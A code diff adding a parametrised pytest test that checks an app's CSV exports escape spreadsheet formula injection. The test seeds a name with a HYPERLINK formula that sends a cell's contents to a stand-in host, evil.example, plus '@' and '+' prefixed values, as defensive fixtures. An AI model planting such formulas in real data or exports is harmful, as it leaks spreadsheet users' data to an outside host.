@@ -319,6 +319,30 @@ def test_export_csv_to_a_file(capsys: pytest.CaptureFixture[str], progress_db: P
     assert rows[0] == list(R.EXPORT_COLUMNS) and len(rows) == 4
 
 
+@pytest.mark.parametrize("what", ["attempts", "pairs", "sessions", "feedback"])
+def test_every_export_quotes_text_a_spreadsheet_would_run(
+        capsys: pytest.CaptureFixture[str], tmp_path: Path, what: str) -> None:
+    "Names and answers like =HYPERLINK(...) come out as text in every export, as on the page."
+    from curriculum.store import pairs as PR
+
+    path = tmp_path / "hostile.db"
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with session(path) as db:
+        senior = P.create_person(db, evil, "senior")
+        junior = P.create_person(db, "+Léa", "junior")
+        run_ = R.open_run(db, senior.id, "email-basics", "first-email", "pair")
+        R.record_attempt(db, R.Attempt(run_.id, senior.id, "email-basics", "first-email",
+                                       "which-box", "@SUM(1+1)", "wrong", "options", 0,
+                                       False, None, 100))
+        PR.pair_by_hand(db, senior.id, junior.id)
+    code, out, _ = run(capsys, "export", "--what", what, "--db", str(path))
+    assert code == 0
+    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    if what in ("attempts", "pairs"):
+        assert "'" + evil in cells
+
+
 def test_export_an_empty_database(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                   monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("CURRICULUM_DB", str(tmp_path / "env.db"))
